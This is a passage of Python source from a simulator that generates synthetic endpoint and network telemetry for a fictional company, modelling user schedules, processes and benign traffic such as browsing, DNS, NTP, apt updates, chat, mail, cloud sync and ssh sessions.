    def window_of(self, t: IntArray) -> IntArray:
        return np.clip((t - self.start) // self.window, 0, self.windows - 1).astype(np.int64)

    # -- schedules: when each host is on, and how busy its user is

    def schedule(self, host: _Host, rng: np.random.Generator) -> None:
        w, n = self.window, self.windows
        local = self.t + host.tz
        day = local // 86400
        first_day = int(day[0])
        di = day - first_day
        days = int(di[-1]) + 1
        hour = (local % 86400 + w / 2) / 3600.0
        weekday = ((first_day + np.arange(days) + 3) % 7) < 5  # 1970-01-01 was a Thursday
        if host.role == "server":
            host.human = np.zeros(n)
            host.on = np.ones(n, dtype=bool)
        else:
            developer = host.role == "developer"
            absent = rng.random(days) < 0.04
            if rng.random() < 0.12:  # a vacation
                first = int(rng.integers(0, days))
                absent[first : first + int(rng.integers(2, 6))] = True
            works = np.where(weekday, ~absent, rng.random(days) < 0.06)
            arrive = np.where(
                weekday,
                rng.normal(9.3 if developer else 8.4, 0.8 if developer else 0.55, days),
                rng.uniform(10.0, 16.0, days),
            )
            length = np.where(
                weekday, rng.normal(8.8 if developer else 8.6, 0.8, days), rng.uniform(0.5, 2.5, days)
            )
            lunch = rng.normal(12.3, 0.35, days)[di]
            lunch_end = lunch + rng.uniform(0.35, 0.9, days)[di]
            evening = ((rng.random(days) < (0.2 if developer else 0.08)) & ~absent)[di]
            evening_start = rng.uniform(19.5, 21.5, days)[di]
            evening_end = evening_start + rng.uniform(0.3, 1.5, days)[di]
            a, leave = arrive[di], arrive[di] + length[di]
            at_work = works[di] & (hour >= a) & (hour < leave)
            at_lunch = weekday[di] & (hour >= lunch) & (hour < lunch_end)
            at_evening = evening & (hour >= evening_start) & (hour < evening_end)
            blocks = (self.t - self.t[0]) // 600
            level = rng.beta(2.2, 1.5, int(blocks[-1]) + 1)
            level[rng.random(len(level)) < 0.12] *= 0.25  # meetings
            level_w = level[blocks]
            ramp = np.clip(np.minimum((hour - a) / 0.75, (leave - hour) / 0.5), 0.3, 1.0)
            lunch_browsing = 0.2 if rng.random() < 0.5 else 0.0
            human = np.where(at_work & ~at_lunch, level_w * ramp, 0.0)
            human = np.where(at_work & at_lunch, lunch_browsing * level_w, human)
            host.human = np.where(at_evening, 0.6 * level_w, human)
            host.on = host.always_on | (works[di] & (hour >= a - 0.15) & (hour < leave + 0.2)) | at_evening
        # boots: the last one before the start, then reboots (laptops: some of their power-ons)
        days_up = rng.uniform(5, 90) if host.role == "server" else rng.uniform(0.2, 6)
        boots = [self.start - int(days_up * 86400)]
        if host.always_on:
            every = 30 if host.role == "server" else 9
            reboots = int(rng.poisson((self.end - self.start) / 86400 / every))
            boots += [int(b) for b in rng.integers(self.start, self.end, reboots)]
        else:
            rises = np.flatnonzero(host.on & ~np.r_[False, host.on[:-1]])
            rises = rises[rng.random(len(rises)) < 0.3]
            boots += [int(self.t[i]) - int(rng.integers(5, 90)) for i in rises]
        host.boots = _i64(sorted(set(boots)))
        host.pid_base = rng.integers(900, 2600, len(host.boots)).astype(np.int64)
        host.pid_rate = float(rng.uniform(0.05, 0.6))
        # the stretches of time the host is on, split at boots
        edges = np.diff(np.r_[0, host.on.astype(np.int8), 0])
        run_s = self.start + np.flatnonzero(edges == 1).astype(np.int64) * w
        run_e = self.start + np.flatnonzero(edges == -1).astype(np.int64) * w
        cuts = host.boots[(host.boots > self.start) & (host.boots < self.end)]
        points = np.unique(np.concatenate([run_s, run_e, cuts]))
        if len(points) < 2:
            host.segments = (_i64([]), _i64([]))
            return
        s, e = points[:-1], points[1:]
        keep = host.on[self.window_of((s + e) // 2)]
        host.segments = (s[keep], e[keep])

    def boot_of(self, host: _Host, t: IntArray) -> IntArray:
        return np.maximum(np.searchsorted(host.boots, t, side="right") - 1, 0).astype(np.int64)

    def pid_at(self, host: _Host, t: IntArray, rng: np.random.Generator) -> IntArray:
        """The pid a process started at t gets: pids grow with the time since boot."""
        boot = self.boot_of(host, t)
        grown = host.pid_base[boot] + ((t - host.boots[boot]) * host.pid_rate).astype(np.int64)
        return 300 + (grown + rng.integers(0, 40, len(t))) % (PID_MAX - 300)

    # -- processes

    def binary(self, host: _Host, key: str) -> tuple[str, str, str, str]:
        """(name, path, sha256, cmdline) of a program on a host."""
        os = host.os
        version = host.versions.get(key, "")
        if key == "firefox":
            path = f"/snap/firefox/{version}/usr/lib/firefox/firefox"
            return "firefox", path, _sha(key, version), path
        if key in ("chrome", "slack", "teams"):
            name, path = {
                "chrome": ("chrome", "/opt/google/chrome/chrome"),
                "slack": ("slack", "/usr/lib/slack/slack"),
                "teams": ("teams-for-linux", "/opt/teams-for-linux/teams-for-linux"),
            }[key]
            return name, path, _sha(key, version), f"{path} {_NETWORK_SERVICE}"
        if key == "thunderbird":
            path = "/usr/lib/thunderbird/thunderbird"
            return "thunderbird", path, _sha(key, version), path
        if key == "dropbox":
            path = f"{host.home}/.dropbox-dist/dropbox-lnx.x86_64-{version}/dropbox"
            return "dropbox", path, _sha(key, version), path
        if key == "onedrive":
            return "onedrive", "/usr/bin/onedrive", _sha(key, version), "/usr/bin/onedrive --monitor"
        if key == "rclone":
            cmd = f"rclone sync {host.home}/Documents corp-s3:workstation-sync/{host.short} --fast-list"
            return "rclone", "/usr/bin/rclone", _sha(key, version), cmd
        if key == "resolved":
            path = "/usr/lib/systemd/systemd-resolved"
            return "systemd-resolve", path, _sha(key, os.systemd), path
        if key == "timesyncd":
            path = "/usr/lib/systemd/systemd-timesyncd"
            return "systemd-timesyn", path, _sha(key, os.systemd), path
        if key == "apt":
            path = "/usr/lib/apt/methods/http"
            return "http", path, _sha(key, os.apt), path
        if key == "ssh":
            return "ssh", "/usr/bin/ssh", _sha(key, os.openssh), "ssh"
        if key == "sshd":
            return "sshd", "/usr/sbin/sshd", _sha(key, os.openssh), "sshd: /usr/sbin/sshd -D [listener]"
        if key == "nginx":
            return "nginx", "/usr/sbin/nginx", _sha(key, os.key), "nginx: worker process"
        if key == "node_exporter":
            path = "/usr/bin/prometheus-node-exporter"
            return "prometheus-node", path, _sha(key, os.key), path
        if key == "restic":
            cmd = f"/usr/bin/restic -r s3:https://{_BACKUP_S3[0]}/corp-backups/{host.short} backup /srv /etc"
            return "restic", "/usr/bin/restic", _sha(key, "0.16.4"), cmd
        if key == "curl":
            return "curl", "/usr/bin/curl", _sha(key, os.curl), "curl"
        if key == "python3":
            return os.python.rsplit("/", 1)[1], os.python, _sha(key, os.python_version), "python3"
        if key == "nmap":
            return "nmap", "/usr/bin/nmap", _sha(key, "7.94+git20230807"), "nmap"
        if key == "smbclient":
            return "smbclient", "/usr/bin/smbclient", _sha(key, os.key), "smbclient"
        if key == "xfreerdp":
            return "xfreerdp", "/usr/bin/xfreerdp", _sha(key, os.key), "xfreerdp"
        raise AssertionError(f"no binary {key!r}")

    def add_procs(
        self,
        host: _Host,
        key: str,
        *,
        pid: Any,
        start: Any,
        end: Any,
        ppid: Any,
        uid: int,
        user: str,
        cmdline: str | None = None,
        path: str | None = None,
        sha: str | None = None,
    ) -> IntArray:
        """Processes of a program (`key`, or "" for one given by path and sha)."""
        if key:
            name, default_path, default_sha, default_cmd = self.binary(host, key)
        else:
            assert path is not None and sha is not None
            name, default_path, default_sha, default_cmd = path.rsplit("/", 1)[1][:15], path, sha, path
        s = self.strings
        return self.procs.add(
            host=host.index,
            pid=pid,
            start=start,
            end=end,
            ppid=ppid,
            uid=uid,
            user=s.code(user),
            name=s.code(name),
            path=s.code(path or default_path),
            sha=s.code(sha if sha is not None else default_sha),
            cmd=s.code(cmdline if cmdline is not None else default_cmd),
        )

    def residents(self, host: _Host, rng: np.random.Generator) -> None:
        """One process per boot for the services and applications that run all the time."""
        boots = host.boots
        n = len(boots)
        ends = np.r_[boots[1:], NEVER]
        login = boots + rng.integers(40, 240, n)
        host.shell = self.pid_at(host, login, rng)
        os = host.os
        system: list[tuple[str, int, str]] = [
            ("resolved", os.resolve_uid, "systemd-resolve"),
            ("timesyncd", os.timesync_uid, "systemd-timesync"),
        ]
        if host.role == "server":
            system += [("nginx", 33, "www-data"), ("node_exporter", 112, "prometheus"), ("sshd", 0, "root")]
        for key, uid, user in system:
            start = boots + rng.integers(2, 15, n)
            pid = np.clip(host.pid_base - rng.integers(200, 600, n), 300, None)
            ppid: Any = 1
            if key == "nginx":
                ppid = pid - rng.integers(1, 4, n)
            ids = self.add_procs(host, key, pid=pid, start=start, end=ends, ppid=ppid, uid=uid, user=user)
            host.resident[key] = _Resident(ids, pid, start)
        user_apps = list(host.browsers)
        user_apps += [host.chat] if host.chat else []
        user_apps += ["thunderbird"] if host.email else []
        user_apps += [host.sync] if host.sync in ("dropbox", "onedrive") else []
        for key in user_apps:
            start = login + rng.integers(5, 400, n)
            pid = self.pid_at(host, start, rng)
            # Chromium-based apps do their networking in a utility process of the main one
            ppid = host.shell if key not in ("chrome", "slack", "teams") else pid - rng.integers(3, 60, n)
            ids = self.add_procs(
                host, key, pid=pid, start=start, end=ends, ppid=ppid, uid=host.uid, user=host.user
            )
            host.resident[key] = _Resident(ids, pid, start)

    def resident(self, host: _Host, key: str, t: IntArray) -> IntArray:
        return host.resident[key].ids[self.boot_of(host, t)]

    # -- connections and events

    def add_conns(
        self,
        *,
        proc: Any,
        remote: Any,
        proto: Any = TCP,
        rport: Any = 443,
        lport: Any = -1,
        direction: Any = OUTBOUND,
        scenario: int = 0,
        mirror: Any = -1,
    ) -> IntArray:
        """Connections; lport -1: the next ephemeral port of the host when it opens; mirror: the
        process of a simulated peer that accepts it (-1: none)."""
        return self.conns.add(
            proc=proc,
            remote=remote,
            proto=proto,
            lport=lport,
            rport=rport,
            direction=direction,
            scenario=scenario,
            mirror=mirror,
        )

    def sessions(
        self,
        sink: _Sink,
        rng: np.random.Generator,
        conn: IntArray,
        t0: IntArray,
        *,
        duration: IntArray,
        sent: IntArray,
        received: IntArray,
        data_every: float = 20.0,
        close: float = 0.5,
        chunk_sent: float = 1400.0,
        chunk_received: float = 8000.0,
    ) -> None:
        """Connections opened at t0 that move their bytes over their duration: a connect event, data
        events spread over the duration, and for a share of them a byte-less close at the end."""
        n = len(conn)
        if n == 0:
            return
        counts = 2 + rng.poisson(duration / data_every)
        index = _group_index(counts)
        owner = np.repeat(np.arange(n), counts)
        offsets = np.where(index == 0, 0, np.ceil(rng.random(len(owner)) * duration[owner]).astype(np.int64))
        bs = _split(rng, _i64(sent), counts)
        br = _split(rng, _i64(received), counts)
        act = np.where(index == 0, CONNECT, DATA)
        sink.add(
            conn[owner],
            t0[owner] + offsets,
            act,
            rng,
            sent=bs,
            received=br,
            chunk_sent=chunk_sent,
            chunk_received=chunk_received,
        )
        closing = (rng.random(n) < close) & (duration > 0)
        zeros = np.zeros(int(closing.sum()), dtype=np.int64)
        sink.add(conn[closing], t0[closing] + duration[closing], CLOSE, rng, sent=zeros, received=zeros)

    def per_window(self, rng: np.random.Generator, rate: FloatArray) -> IntArray:
        """Times of events happening at `rate` per window (Poisson), a random second within each."""
        counts = rng.poisson(rate).astype(np.int64)
        w = np.repeat(np.arange(self.windows, dtype=np.int64), counts)
        return self.t[w] + rng.integers(0, self.window, len(w))

    def ticks(
        self, rng: np.random.Generator, starts: IntArray, ends: IntArray, period: float, jitter: float
    ) -> tuple[IntArray, IntArray]:
        """(segment index, time) of a timer firing every `period` s (± jitter s) within each segment."""
        if len(starts) == 0:
            return _i64([]), _i64([])
        phase = rng.uniform(0, period, len(starts))
        counts = np.maximum(np.floor((ends - starts - phase) / period).astype(np.int64) + 1, 0)
        owner = np.repeat(np.arange(len(starts), dtype=np.int64), counts)
        k = _group_index(counts)
        times = starts[owner] + phase[owner] + k * period + rng.uniform(-jitter, jitter, len(owner))
        return owner, np.clip(np.floor(times).astype(np.int64), starts[owner], ends[owner] - 1)

    def lifetimes(
        self, rng: np.random.Generator, starts: IntArray, ends: IntArray, mean: float, delay: float
    ) -> tuple[IntArray, IntArray]:
        """Long-lived connections within each segment: the first about `delay` s after its start,
        each lasting an exponential time of mean `mean` s, the next one opened right after."""
        out_s: list[int] = []
        out_e: list[int] = []
        for s, e in zip(starts.tolist(), ends.tolist(), strict=True):
            at = s + int(rng.exponential(delay))
            while at < e - 1:
                stop = min(e, at + max(60, int(rng.exponential(mean))))
                out_s.append(at)
                out_e.append(stop)
                at = stop + int(rng.integers(1, 20))
        return _i64(out_s), _i64(out_e)

    @staticmethod
    def during(starts: IntArray, ends: IntArray, t: IntArray) -> tuple[IntArray, BoolArray]:
        """For each time, the lifetime it falls in, and whether it falls in one."""
        at = np.searchsorted(starts, t, side="right") - 1
        ok = (at >= 0) & (t < ends[np.maximum(at, 0)]) if len(starts) else np.zeros(len(t), dtype=bool)
        return np.maximum(at, 0).astype(np.int64), ok

    # -- applications, per host

    def host_traffic(self, host: _Host, rng: np.random.Generator) -> None:
        sink = _Sink(self, host)
        browsing = np.zeros(self.windows)
        if host.browsers:
            browsing = self.browser(host, sink, rng)
        self.dns(host, sink, rng, browsing)
        self.ntp(host, sink, rng)
        self.apt(host, sink, rng)
        if host.chat:
            self.chat(host, sink, rng)
        if host.email:
            self.mail(host, sink, rng)
        if host.sync:
            self.sync(host, sink, rng)
        if host.role == "developer":
            self.ssh(host, sink, rng)
        if host.role == "server":
            self.server(host, sink, rng)
        sink.flush()

    def browser(self, host: _Host, sink: _Sink, rng: np.random.Generator) -> FloatArray:
        """Bursty browsing; returns the new connections per window (what DNS lookups follow)."""
        rate = 8.0 * self.window / 60 * host.volume * (1.15 if host.role == "developer" else 1.0)
        counts = rng.poisson(rate * host.human * rng.gamma(0.6, 1 / 0.6, self.windows))
        w = np.repeat(np.arange(self.windows, dtype=np.int64), counts)
        t0 = self.t[w] + rng.integers(0, self.window, len(w))
        n = len(t0)
        if n == 0:
            return counts.astype(np.float64)
        which = (rng.random(n) > host.browser_share).astype(np.int64) * (len(host.browsers) == 2)
        proc = np.empty(n, dtype=np.int64)
        for i, key in enumerate(host.browsers):
            sel = which == i
            proc[sel] = self.resident(host, key, t0[sel])
        chrome = np.asarray([key == "chrome" for key in host.browsers])[which]
        u = rng.random(n)
        p_intranet = 0.12 if host.role == "developer" else 0.08
        intranet = u < p_intranet
        favourite = ~intranet & (u < p_intranet + 0.3)
        pool = self.pool
        site = np.where(
            favourite, host.favourites[rng.integers(0, len(host.favourites), n)], pool.draw(rng, n)
        )
        remote = pool.ids[pool.v4_first[site] + rng.integers(0, pool.v4_count[site])]
        six = np.flatnonzero(bool(host.v6) & (pool.v6_count[site] > 0) & (rng.random(n) < 0.75))
        remote[six] = pool.ids[pool.v6_first[site[six]] + rng.integers(0, pool.v6_count[site[six]])]
        quic = pool.quic[site] & (rng.random(n) < np.where(chrome, 0.7, 0.45)) & ~intranet
        mirror = np.full(n, -1, dtype=np.int64)
        where = np.flatnonzero(intranet)
        if len(where):
            fixed = _i64([self.remotes.add(address, name) for name, address in _INTRANET])
            targets = np.r_[fixed, _i64([server.remote for server in self.servers])]
            weights = np.r_[np.ones(len(fixed)), np.full(len(self.servers), 2.5)]
            pick = rng.choice(len(targets), len(where), p=weights / weights.sum())
            remote[where] = targets[pick]
            for j, server in enumerate(self.servers):  # both ends are ours: nginx there accepts
                sel = where[pick == len(fixed) + j]
                mirror[sel] = self.resident(server, "nginx", t0[sel])
        long = rng.random(n) < 0.22
        duration = np.where(
            long, _lognormal(rng, 90, 1.0, n, (10, 1800)), _lognormal(rng, 2, 0.8, n, (0, 20))
        )
        received = _lognormal(rng, 18000, 1.7, n, (300, 300 * MIB))
        heavy = rng.random(n) < 0.01  # a video, a download
        received[heavy] *= rng.integers(10, 60, int(heavy.sum()))
        sent = 600 + _lognormal(rng, 1200, 0.9, n, (100, 2 * MIB)) + received // 60
        conn = self.add_conns(proc=proc, remote=remote, proto=np.where(quic, UDP, TCP), mirror=mirror)
        self.sessions(sink, rng, conn, t0, duration=duration, sent=sent, received=received, data_every=25.0)
        return counts.astype(np.float64)

    def dns(self, host: _Host, sink: _Sink, rng: np.random.Generator, browsing: FloatArray) -> None:
        """systemd-resolved: a query (its own socket) per lookup, to the internal resolvers."""
        minute = self.window / 60
        rate = host.on * 0.35 * minute + 0.3 * browsing + host.human * 0.4 * minute
        counts = rng.poisson(rate).astype(np.int64)
        counts = np.where(host.human > 0, np.maximum(counts, 1), counts)  # every active window
        w = np.repeat(np.arange(self.windows, dtype=np.int64), counts)
        t = self.t[w] + rng.integers(0, self.window, len(w))
        n = len(t)
        if n == 0:
            return
        resolvers = _i64([self.remotes.add(address, name) for name, address in _RESOLVERS])
        remote = resolvers[(rng.random(n) > 0.85).astype(np.int64)]
        conn = self.add_conns(proc=self.resident(host, "resolved", t), remote=remote, proto=UDP, rport=53)
        query = rng.integers(34, 95, n)
        answer = np.where(rng.random(n) < 0.985, query + rng.integers(16, 260, n), 0)
        sink.add(conn, t, CONNECT, rng, sent=query, received=answer, chunk_sent=1e9, chunk_received=1e9)

    def ntp(self, host: _Host, sink: _Sink, rng: np.random.Generator) -> None:
        _, t = self.ticks(rng, *host.segments, period=2048.0, jitter=3.0)
        n = len(t)
        if n == 0:
            return
        servers = self.remotes.many(host.os.ntp)
        remote = servers[rng.integers(0, len(servers), n)]
        conn = self.add_conns(proc=self.resident(host, "timesyncd", t), remote=remote, proto=UDP, rport=123)
        size = np.full(n, 48, dtype=np.int64)
        sink.add(conn, t, CONNECT, rng, sent=size, received=size, chunk_sent=1e9, chunk_received=1e9)

    def apt(self, host: _Host, sink: _Sink, rng: np.random.Generator) -> None:
        """apt-daily.timer: 06:00 and 18:00 local plus up to 12 h; Persistent: when next on."""
        days = np.arange((self.start + host.tz) // 86400 - 1, (self.end + host.tz) // 86400 + 1)
        planned = np.r_[days * 86400 + 6 * 3600, days * 86400 + 18 * 3600] - host.tz
        planned = planned + rng.integers(0, 12 * 3600, len(planned))
        planned = planned[(planned >= self.start) & (planned < self.end) & (rng.random(len(planned)) < 0.9)]
        next_on = _next_true(host.on)[(planned - self.start) // self.window]
        runs = np.unique(next_on[next_on < self.windows])
        n = len(runs)
        if n == 0:
            return
        t_run = self.t[runs] + rng.integers(0, self.window, n)
        pid = self.pid_at(host, t_run, rng)
        proc = self.add_procs(
            host,
            "apt",
            pid=pid,
            start=t_run - 1,
            end=t_run + 7200,
            ppid=pid - rng.integers(2, 9, n),
            uid=42,
            user="_apt",
        )
        mirrors = list(host.os.mirrors)
        if "chrome" in host.browsers:
            mirrors.append(_GOOGLE_REPO)
        elif host.os.platform == "ubuntu" and rng.random() < 0.3:
            mirrors.append(_PPA_REPO)
        for m, endpoint in enumerate(mirrors):
            addresses = self.remotes.many(endpoint)
            conn = self.add_conns(proc=proc, remote=addresses[rng.integers(0, len(addresses), n)], rport=80)
            sent = rng.integers(400, 1600, n)
            unchanged = rng.random(n) < 0.4
            received = np.where(
                unchanged, rng.integers(300, 900, n), _lognormal(rng, 40000, 1.2, n, (2000, 8 * MIB))
            )
            duration = rng.integers(0, 4, n)
            if m < 2:  # package downloads from the distribution's mirrors
                download = rng.random(n) < (0.35 if m == 0 else 0.2)
                size = _lognormal(rng, 60 * MIB, 1.0, n, (2 * MIB, 600 * MIB))
                rate = rng.uniform(3, 15, n) * MIB
                received = np.where(download, received + size, received)
                sent = np.where(download, sent + size // 4000, sent)
                duration = np.where(download, (size / rate).astype(np.int64) + 2, duration)
            t0 = t_run + rng.integers(0, 3, n)
            self.sessions(
                sink,
                rng,
                conn,
                t0,
                duration=duration,
                sent=sent,
                received=received,
                data_every=5.0,
                close=0.3,
                chunk_received=32768,
            )

    def chat(self, host: _Host, sink: _Sink, rng: np.random.Generator) -> None:
        """A long-lived websocket with keepalives (benign periodic traffic), messages on it while the
        user is there, and short API and file connections."""
        key = host.chat
        wss, api, period = (
            (_SLACK_WSS, _SLACK_API, 30.0) if key == "slack" else (_TEAMS_WSS, _TEAMS_API, 45.0)
        )
        starts, ends = self.lifetimes(rng, *host.segments, mean=4 * 3600, delay=240)
        k = len(starts)
        if k:
            endpoints = self.remotes.many(wss)
            proc = self.resident(host, key, starts)
            conn = self.add_conns(proc=proc, remote=endpoints[rng.integers(0, len(endpoints), k)])
            sink.add(
                conn,
                starts,
                CONNECT,
                rng,
                sent=rng.integers(900, 1800, k),
                received=rng.integers(3500, 6500, k),
            )
            owner, t = self.ticks(rng, starts, ends, period=period, jitter=1.0)
            size = len(t)
            sink.add(
                conn[owner],
                t,
                DATA,
                rng,
                sent=rng.integers(38, 64, size),
                received=rng.integers(38, 64, size),
                chunk_sent=1e9,
                chunk_received=1e9,
            )
            tm = self.per_window(rng, 0.6 * self.window / 60 * host.human * host.volume)
            at, ok = self.during(starts, ends, tm)
            tm, at = tm[ok], at[ok]
            m = len(tm)
            mine = rng.random(m) < 0.3
            bs = np.where(mine, _lognormal(rng, 900, 0.8, m, (80, 64000)), rng.integers(40, 200, m))
            br = np.where(mine, rng.integers(80, 400, m), _lognormal(rng, 1500, 1.0, m, (80, 256000)))
            sink.add(conn[at], tm, DATA, rng, sent=bs, received=br)
            closing = np.flatnonzero(ends < self.end - self.window)
            zeros = np.zeros(len(closing), dtype=np.int64)
            sink.add(conn[closing], ends[closing] - 1, CLOSE, rng, sent=zeros, received=zeros)
        t0 = self.per_window(rng, 0.3 * self.window / 60 * host.human * host.volume)
        n = len(t0)
        if n:
            ids = np.concatenate([self.remotes.many(endpoint, ipv6=bool(host.v6)) for endpoint in api])
            conn = self.add_conns(proc=self.resident(host, key, t0), remote=ids[rng.integers(0, len(ids), n)])
            received = _lognormal(rng, 9000, 1.6, n, (500, 40 * MIB))
            self.sessions(
                sink,
                rng,
                conn,
                t0,
                duration=rng.integers(0, 8, n),
                sent=rng.integers(900, 3500, n),
                received=received,
            )

    def mail(self, host: _Host, sink: _Sink, rng: np.random.Generator) -> None:
        """Thunderbird: IMAP IDLE on a long-lived connection, other folders checked every 10 minutes,
        SMTP submission when the user sends."""
        imap = self.remotes.many(_MAIL_IMAP)
        starts, ends = self.lifetimes(rng, *host.segments, mean=2 * 3600, delay=300)
        k = len(starts)
        if k:
            proc = self.resident(host, "thunderbird", starts)
            conn = self.add_conns(proc=proc, remote=imap[rng.integers(0, len(imap), k)], rport=993)
            sink.add(
                conn,
                starts,
                CONNECT,
                rng,
                sent=rng.integers(1500, 3000, k),
                received=rng.integers(5000, 9000, k),
            )
            owner, t = self.ticks(rng, starts, ends, period=29 * 60, jitter=5.0)  # IDLE renewed
            sink.add(
                conn[owner],
                t,
                DATA,
                rng,
                sent=rng.integers(30, 70, len(t)),
                received=rng.integers(40, 90, len(t)),
            )
            tm = self.per_window(rng, 5 / 60 * self.window / 60 * (0.3 + host.human) * host.on)
            at, ok = self.during(starts, ends, tm)
            tm, at = tm[ok], at[ok]
            fetched = _lognormal(rng, 30000, 1.3, len(tm), (400, 30 * MIB))
            sink.add(conn[at], tm, DATA, rng, sent=rng.integers(60, 300, len(tm)), received=fetched)
        owner, t0 = self.ticks(rng, *host.segments, period=600.0, jitter=2.0)
        t0 = t0[t0 >= host.segments[0][owner] + 300]
        n = len(t0)
        if n:
            proc = self.resident(host, "thunderbird", t0)
            conn = self.add_conns(proc=proc, remote=imap[rng.integers(0, len(imap), n)], rport=993)
            sent, received = rng.integers(500, 1500, n), rng.integers(1200, 6000, n)
            self.sessions(
                sink, rng, conn, t0, duration=rng.integers(0, 3, n), sent=sent, received=received, close=0.0
            )
        t0 = self.per_window(rng, 0.8 / 60 * self.window / 60 * host.human)
        n = len(t0)
        if n:
            smtp = self.remotes.many(_MAIL_SMTP)
            proc = self.resident(host, "thunderbird", t0)
            conn = self.add_conns(proc=proc, remote=smtp[rng.integers(0, len(smtp), n)], rport=587)
            size = _lognormal(rng, 20000, 1.5, n, (1000, 25 * MIB))
            received = rng.integers(800, 2000, n)
            self.sessions(
                sink,
                rng,
                conn,
                t0,
                duration=1 + size // MIB,
                sent=size,
                received=received,
                close=0.0,
                chunk_sent=16384,
            )

    def sync(self, host: _Host, sink: _Sink, rng: np.random.Generator) -> None:
        """A sync client: a periodic check-in with its cloud endpoint (a benign beacon), small syncs
        after the user saved files, and now and then a large upload."""
        key = host.sync
        if key == "rclone":  # cron, every 15 minutes on the quarter hour: a process per run
            t = np.arange(-(-self.start // 900) * 900, self.end, 900, dtype=np.int64)
            t = t + rng.integers(1, 4, len(t))
            t = t[(t < self.end) & host.on[self.window_of(t)]]
            n = len(t)
            if n == 0:
                return
            pid = self.pid_at(host, t, rng)
            runs = self.add_procs(
                host,
                "rclone",
                pid=pid,
                start=t - 1,
                end=t + 3600,
                ppid=pid - rng.integers(1, 4, n),
                uid=host.uid,
                user=host.user,
            )
            endpoint = self.remotes.many(_RCLONE_S3)
            conn = self.add_conns(proc=runs, remote=endpoint[rng.integers(0, len(endpoint), n)])
            sent, received = rng.integers(2000, 9000, n), rng.integers(5000, 60000, n)
            self.sessions(
                sink, rng, conn, t, duration=rng.integers(0, 3, n), sent=sent, received=received, close=0.0
            )
            content = endpoint
        else:
            notify, storage = _DROPBOX if key == "dropbox" else _ONEDRIVE
            owner, t = self.ticks(rng, *host.segments, period=float(host.sync_period), jitter=2.0)
            t = t[t >= host.segments[0][owner] + 60]
            n = len(t)
            if n == 0:
                return
            endpoint = self.remotes.many(notify)
            proc = self.resident(host, key, t)
            conn = self.add_conns(proc=proc, remote=endpoint[rng.integers(0, len(endpoint), n)])
            sent, received = rng.integers(700, 1900, n), rng.integers(900, 5200, n)
            self.sessions(
                sink, rng, conn, t, duration=rng.integers(0, 3, n), sent=sent, received=received, close=0.0
            )
            content = self.remotes.many(storage)
        minute = self.window / 60
        for p, median, sigma, low, high in (
            (0.05 * minute * host.human, 80000, 1.2, 2000, 8 * MIB),
            (0.004 * minute * host.human * host.volume, 40 * MIB, 1.1, 5 * MIB, 900 * MIB),
        ):
            w = np.flatnonzero(rng.random(self.windows) < p)
            t0 = self.t[w] + rng.integers(0, self.window, len(w))
            if key == "rclone":  # picked up by the next run
                at = np.searchsorted(t, t0, side="left")
                t0, at = t0[at < n], at[at < n]
                t0 = t[at] + 2
                proc = runs[at]
            else:
                proc = self.resident(host, key, t0)
            k = len(t0)
            conn = self.add_conns(proc=proc, remote=content[rng.integers(0, len(content), k)])
            size = _lognormal(rng, median, sigma, k, (low, high))
            duration = (size / (rng.uniform(1.0, 4.5, k) * MIB)).astype(np.int64)
            self.sessions(
                sink,
                rng,
                conn,
                t0,
                duration=duration,
                sent=size,
                received=2000 + size // 400,
                data_every=5.0,
                close=0.0,
                chunk_sent=65536,
            )

    def ssh(self, host: _Host, sink: _Sink, rng: np.random.Generator) -> None:
        """A developer's interactive ssh sessions (some to our servers, whose sshd accepts them) and
        git over ssh."""
        total = float(host.human.sum())
        if total <= 0:
            return
        work_days = total * self.window / 3600 / 6.0
        p = host.human / total
        n = int(rng.poisson(2.5 * work_days))
        if n:
            t0 = self.t[rng.choice(self.windows, n, p=p)] + rng.integers(0, self.window, n)
            duration = _lognormal(rng, 35 * 60, 0.9, n, (120, 8 * 3600))
            seg, ok = self.during(*host.segments, t0)
            duration = np.where(ok, np.clip(host.segments[1][seg] - 1 - t0, 1, None), duration)
            duration = np.minimum(duration, _lognormal(rng, 35 * 60, 0.9, n, (120, 8 * 3600)))
            internal = _i64(
                [self.remotes.add(_SSH_SERVERS[i][1], _SSH_SERVERS[i][0]) for i in host.ssh_targets]
            )
            remote = internal[rng.integers(0, len(internal), n)]
            mirror = np.full(n, -1, dtype=np.int64)
            if self.servers:
                which = np.where(rng.random(n) < 0.3, rng.integers(0, len(self.servers), n), -1)
                for j, server in enumerate(self.servers):
                    sel = np.flatnonzero(which == j)
                    if len(sel) == 0:
                        continue
                    remote[sel] = server.remote
                    listener = server.resident["sshd"].pids[self.boot_of(server, t0[sel])]
                    mirror[sel] = self.add_procs(
                        server,
                        "sshd",
                        pid=self.pid_at(server, t0[sel], rng),
                        start=t0[sel],
                        end=t0[sel] + duration[sel] + 5,
                        ppid=listener,
                        uid=0,
                        user="root",
                        cmdline=f"sshd: {host.user} [priv]",
                    )
            procs = np.empty(n, dtype=np.int64)
            pid = self.pid_at(host, t0, rng)
            for target in np.unique(remote):
                sel = np.flatnonzero(remote == target)
                name = self.remotes.hostname[int(target)].split(".")[0]
                procs[sel] = self.add_procs(
                    host,
                    "ssh",
                    pid=pid[sel],
                    start=t0[sel],
                    end=t0[sel] + duration[sel] + 2,
                    ppid=host.shell[self.boot_of(host, t0[sel])],
                    uid=host.uid,
                    user=host.user,
                    cmdline=f"ssh {name}",
                )
            conn = self.add_conns(proc=procs, remote=remote, rport=22, mirror=mirror)
            sink.add(
                conn, t0, CONNECT, rng, sent=rng.integers(2500, 4200, n), received=rng.integers(3000, 5200, n)
            )
            # keystrokes and output in the session's windows, more while the user is there
            first_w = self.window_of(t0)
            spans = self.window_of(t0 + duration) - first_w + 1
            owner = np.repeat(np.arange(n), spans)
            w_all = first_w[owner] + _group_index(spans)
            k = rng.poisson(4 * self.window / 60 * (0.15 + host.human[w_all]))
            owner = np.repeat(owner, k)
            t = np.repeat(self.t[w_all], k) + rng.integers(0, self.window, len(owner))
            ok = (t > t0[owner]) & (t < t0[owner] + duration[owner])
            owner, t = owner[ok], t[ok]
            output = _lognormal(rng, 600, 1.5, len(t), (36, 4 * MIB))
            sink.add(conn[owner], t, DATA, rng, sent=rng.integers(36, 400, len(t)), received=output)
            sink.add(
                conn,
                t0 + duration,
                CLOSE,
                rng,
                sent=rng.integers(60, 120, n),
                received=rng.integers(60, 200, n),
            )
        n = int(rng.poisson(6 * work_days))
        if n:
            t0 = self.t[rng.choice(self.windows, n, p=p)] + rng.integers(0, self.window, n)
            pid = self.pid_at(host, t0, rng)
            push = rng.random(n) < 0.25
            repos = ("platform/api", "platform/web", "infra/terraform", "data/pipeline", "tools/cli")
